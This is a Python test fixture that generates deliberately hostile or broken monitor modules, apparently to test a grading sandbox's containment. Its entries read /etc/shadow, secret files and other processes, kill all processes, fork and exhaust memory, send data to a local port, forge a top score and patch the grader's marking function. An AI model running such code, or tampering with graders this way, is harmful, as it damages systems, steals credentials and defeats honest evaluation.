"""Monitors of exercise 3 that mean harm, or are just broken: each is the body of ``trigger``."""

PREAMBLE = '''\
import ctypes, json, os, resource, signal
import socket, subprocess, sys, threading, time
from pathlib import Path

SECRETS = [{secrets}]


def read_all():
    """Return what can be read of the secrets."""
    found = []
    for root in SECRETS:
        for path in [Path(root), *Path(root).glob("**/*")]:
            try:
                found.append(path.read_text())
            except OSError:
                pass
    return found


calls = []


def broken(situation):
    return None


def trigger(situation):
'''

HOSTILE = {
    "raises-base": (
        "raise BaseException('no idea')",
        "BaseException: no idea, at monitor.py:28 in trigger",
    ),
    "ends-its-process": ("os._exit(0)", "its process ended when asked trigger"),
    "hangs": ("while True: pass", "no answer to trigger within 1 s\n  monitor.py:28 in trigger"),
    "eats-memory": ("return [bytearray(1 << 24) for _ in range(10_000)]", ""),
    "floods": ("os.write(1, b'x' * 5_000_000); return 'moved'", "printed more than 1000000 bytes"),
    "forks": ("[os.fork() for _ in range(7)]; time.sleep(60)", ""),
    "answers-an-object": (
        "return object()",
        "answers <object object>; expected plain data",
    ),
    "answers-much": ("return 'x' * 20_000_000", "no readable reply"),
    "answers-deep": (
        "value = []\n    for _ in range(100_000): value = [value]\n    return value",
        "expected plain data",
    ),
    "counts-its-calls": ("calls.append(1); return 'moved' if len(calls) == 1 else None", ""),
    "forges-a-reply": (
        "reply = frame({'answer': 'forged', 'score': 100})\n"
        "    [os.write(fd, reply) for fd in range(3, 20) if is_open(fd)]",
        "",
    ),
    "kills-all": ("os.kill(os.getppid(), 9); os.kill(-1, signal.SIGKILL)", ""),
    "reads-secrets": ("return read_all() or 'moved'", "trigger answered 'moved'; expected None"),
    "reads-other-processes": (
        "others = [n for n in os.listdir('/proc') if n.isdigit()]\n"
        "    return [open(f'/proc/{n}/cmdline').read() for n in others if int(n) > 2] or 'moved'",
        "",
    ),
    "changes-the-grader": (
        "import planner_clue.teach.marks as m\n    m.points_for = lambda share, out_of: out_of\n"
        "    return 'moved'",
        "imports planner_clue.teach.marks; this exercise allows",
    ),
    "changes-times": (
        "[os.utime(root, (1, 1)) for root in SECRETS]; return 'changed'",
        "PermissionError",
    ),
    "leaves-shared-memory": (
        "assert ctypes.CDLL(None).shmget(0, 4096, 0o1777) < 0\n    return 'moved'",
        "trigger answered 'moved'; expected None",
    ),
    "limits-others": (
        "resource.prlimit(os.getppid() or 2, resource.RLIMIT_CPU, (1, 1))\n    return 'limited'",
        "PermissionError",
    ),
    "reads-devices": (
        "return [open(f'/dev/{name}', 'rb') for name in os.listdir('/dev')] or 'moved'",
        "PermissionError",
    ),
    "reads-passwords": ("return open('/etc/shadow').read()", "PermissionError"),
    "prints-places": (
        "os.write(2, b'File \"x\", line 1 in ' * 9000); os._exit(0)",
        "its process ended when asked trigger",
    ),
    "calls-home": (
        "socket.create_connection(('127.0.0.1', {port}), 2); return 'connected'",
        "",
    ),
    "sends-home": (
        "one = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"
        "    one.sendto(b'secret', ('127.0.0.1', {port})); return 'sent'",
        "",
    ),
}
"""The bodies, by what they do, each with a part of the shortfall."""

TOOLS = """

def is_open(descriptor):
    try:
        os.fstat(descriptor)
    except OSError:
        return False
    return True


def frame(reply):
    data = json.dumps(reply).encode()
    return len(data).to_bytes(4, "big") + data
"""


def monitor(body: str, secrets: str = "", port: int = 0) -> bytes:
    """Return a monitor whose ``trigger`` does this; the secrets are texts in Python."""
    text = PREAMBLE.replace("{secrets}", secrets) + f"    {body.replace('{port}', str(port))}\n"
    return (text + TOOLS).encode()
